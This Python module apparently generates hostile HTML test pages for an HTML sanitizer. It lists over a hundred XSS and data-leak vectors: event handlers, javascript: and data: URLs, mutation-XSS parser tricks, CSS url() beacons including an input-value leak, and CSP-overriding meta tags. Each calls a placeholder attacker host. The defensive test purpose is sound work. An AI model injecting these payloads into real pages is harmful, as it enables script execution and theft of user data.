"""Pages that try to run something or to reach somebody, in every place that HTML has for it."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "fetch('{evil}/ran')"
"""What a script would do: a request that the test would see."""

_EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
    "onbegin", "onpageshow", "onhashchange", "onscroll", "onpointerenter", "onbeforetoggle",
    "oncontentvisibilityautostatechange", "ontransitionrun",
)  # fmt: skip
_CARRIERS = (
    '<body {event}="{call}">Text', '<img src="{evil}/i" {event}="{call}">',
    '<svg {event}="{call}"><rect width=9 height=9 /></svg>',
    '<details open {event}="{call}"><summary>S</summary>T</details>',
    '<input autofocus {event}="{call}">', '<video src="{evil}/v" {event}="{call}"></video>',
    '<p tabindex=0 autofocus style="animation:x 1s" {event}="{call}">P</p>',
)  # fmt: skip
_URLS = (
    "javascript:{call}", "JaVa\tScRiPt:{call}", "&#106;avascript:{call}", " javascript:{call}",
    "data:text/html,<script>{call}</script>", "data:text/html;base64,PHNjcmlwdD4=", "{evil}/url",
    "//{host}/url", "blob:{evil}/x", "vbscript:x", "view-source:{evil}/x", "filesystem:{evil}/x",
)  # fmt: skip
_PLACES = (
    '<a href="{url}" autofocus>Go</a>', '<iframe src="{url}"></iframe>', '<img src="{url}">',
    '<form action="{url}"><button autofocus>Go</button></form>', '<object data="{url}"></object>',
    '<embed src="{url}">', '<base href="{url}"><a href=x>Go</a><img src=y>',
    '<meta http-equiv=refresh content="0;url={url}">', '<link rel=stylesheet href="{url}">',
)  # fmt: skip
_OTHERS = (
    "<script>{call}</script>", "<script src='{evil}/s.js'></script>",
    "<script type=module>import '{evil}/m.js'</script>",
    "<script type=importmap>{{\"imports\":{{}}}}</script><script>{call}</script>",
    "<svg><script>{call}</script></svg>", "<svg><script href='{evil}/s.js'/></svg>",
    "<svg><image href='{evil}/i'/><use href='{evil}/u#x'/></svg>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>Go</text></a></svg>",
    "<svg><animate onbegin='{call}' attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{call}</script>'></iframe></foreignObject></svg>",
    "<svg><set attributeName=href to='javascript:{call}'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror={call}&gt;'>",
    "<math href='javascript:{call}'>x</math>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe srcdoc=\"<img src='{evil}/i'>\"></iframe>",
    "<style>@import '{evil}/a.css';</style><p>x", "<style>@import url({evil}/a.css);</style><p>x",
    "<style>p{{background:url({evil}/bg)}}</style><p>x",
    "<style>p{{background:image-set('{evil}/a' 1x)}}</style><p>x",
    "<style>@font-face{{font-family:F;src:url({evil}/f)}}p{{font-family:F}}</style><p>x",
    "<style>p::before{{content:url({evil}/c)}}</style><p>x",
    "<style>p{{cursor:url({evil}/c),auto}}</style><p>x",
    "<style>ul{{list-style-image:url({evil}/l)}}</style><ul><li>x",
    "<style>p{{mask:url({evil}/m#x);filter:url({evil}/f#x)}}</style><p>x",
    "<style>p{{behavior:url({evil}/h);-moz-binding:url({evil}/b#x)}}</style><p>x",
    "<style>@namespace url({evil}/n);@layer x;</style><p>x",
    "<style>input[value^=a]{{background:url({evil}/leak)}}</style><input value=abc>",
    "<style></style><script>{call}</script>", "<style><!--</style><script>{call}</script>-->",
    "<p style='background:url({evil}/s)'>x", "<p style=\"background:url('{evil}/s')\">x",
    "<table background='{evil}/b'><tr><td background='{evil}/c'>x</table>",
    "<body background='{evil}/b'>x", "<img srcset='{evil}/a 1x, {evil}/b 2x'>",
    "<img src='{evil}/a' loading=eager fetchpriority=high>",
    "<picture><source srcset='{evil}/a'><img src='{evil}/b'></picture>",
    "<video poster='{evil}/p' src='{evil}/v' autoplay></video>",
    "<audio src='{evil}/a' autoplay></audio>", "<track src='{evil}/t'>",
    "<video><source src='{evil}/v'><track default src='{evil}/t'></video>",
    "<input type=image src='{evil}/i'>", "<link rel=preload as=image href='{evil}/p'>",
    "<link rel=prefetch href='{evil}/p'>", "<link rel=preconnect href='{evil}'>",
    "<link rel=dns-prefetch href='{evil}'>", "<link rel=modulepreload href='{evil}/m.js'>",
    "<link rel=icon href='{evil}/i'>", "<link rel=manifest href='{evil}/m'>",
    "<link rel=prerender href='{evil}/p'>", "<html manifest='{evil}/m'><p>x",
    "<a ping='{evil}/ping' href='{evil}/go'>x</a>", "<a target=_blank href='{evil}/go'>x</a>",
    "<a download href='{evil}/go'>x</a>", "<a attributionsrc='{evil}/a' href=x>x</a>",
    "<img attributionsrc='{evil}/a'>", "<portal src='{evil}/p'></portal>",
    "<fencedframe src='{evil}/f'></fencedframe>", "<frameset><frame src='{evil}/f'></frameset>",
    "<applet code='{evil}/a'></applet>", "<param name=src value='{evil}/p'>",
    "<object type='text/html' data='data:text/html,<script>{call}</script>'></object>",
    "<isindex action='javascript:{call}'>", "<button formaction='javascript:{call}'>x</button>",
    "<form><input type=submit formaction='{evil}/f' autofocus></form>",
    "<marquee onstart='{call}'>x</marquee>", "<keygen autofocus onfocus='{call}'>",
    "<noscript><p title=\"</noscript><img src=x onerror={call}>\"></noscript>",
    "<noembed><img src=x onerror='{call}'></noembed>", "<xmp><img src=x onerror='{call}'></xmp>",
    "<template shadowrootmode=open><script>{call}</script><img src='{evil}/i'></template>",
    "<div><template shadowrootmode=open><style>@import '{evil}/a'</style></template></div>",
    "<textarea></textarea><script>{call}</script>", "<title></title><script>{call}</script>",
    "<plaintext><script>{call}</script>", "<select><option><script>{call}</script></select>",
    "<p title='\"><script>{call}</script>'>x", "<p class='\"><script>{call}</script>'>x",
    "<p id='dehusk-page'><p class='dehusk' data-why='\"><script>{call}</script>'>x",
    "<p data-dehusk='template' onclick='{call}' style='all:unset;position:fixed;inset:0'>x",
    "<style>a.dehusk{{position:fixed!important;inset:0}}*{{all:initial}}</style><p>x",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><script>{call}</script>",
    "<meta http-equiv=Set-Cookie content='a=b'><p>x",
    "<meta name=referrer content=unsafe-url><img src='{evil}/r'>",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href='{evil}'>x",
    "<?xml-stylesheet href='{evil}/x'?><p>x", "<![CDATA[<script>{call}</script>]]>",
    "<!--><script>{call}</script>-->", "<!--[if IE]><script>{call}</script><![endif]-->x",
    "<custom-x onclick='{call}'><script>{call}</script></custom-x>",
    "<dialog open><iframe src='{evil}/d'></iframe></dialog>",
    "<div popover id=p>x</div><button popovertarget=p onclick='{call}' autofocus>x</button>",
    "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{evil}/s\"]}}]}}</script>x",
    "\0<scr\0ipt>{call}</scr\0ipt>", "<scr<script>ipt>{call}</script>",
    "<a href='https:{evil}'>x</a>", "<p>&lt;script&gt;{call}&lt;/script&gt;",
    "<math><annotation-xml encoding='text/html'><script>{call}</script></annotation-xml></math>",
    "<svg><style>@import '{evil}/a';*{{background:url({evil}/b)}}</style></svg>",
    "<svg><desc><script>{call}</script></desc><title><img src=x onerror='{call}'></title></svg>",
    "<svg><filter><feImage href='{evil}/f'/></filter></svg>",
    "<svg><handler>{call}</handler><discard onbegin='{call}'/></svg>",
)  # fmt: skip


def hostile_pages(evil: str) -> Iterator[str]:
    """All of them; `evil` is the address that none may reach."""
    host = evil.partition("//")[2]
    call = CALL.format(evil=evil)

    def fill(text: str, **more: str) -> str:
        return text.format(evil=evil, host=host, call=call, **more)

    yield from (fill(text) for text in _OTHERS)
    for event, carrier in product(_EVENTS, _CARRIERS[:3]):
        yield fill(carrier, event=event)
    for number, carrier in enumerate(_CARRIERS[3:]):
        yield from (fill(carrier, event=event) for event in _EVENTS[number::5])
    for url, place in product(_URLS[:6], _PLACES):
        yield fill(place, url=fill(url).replace('"', "&quot;"))
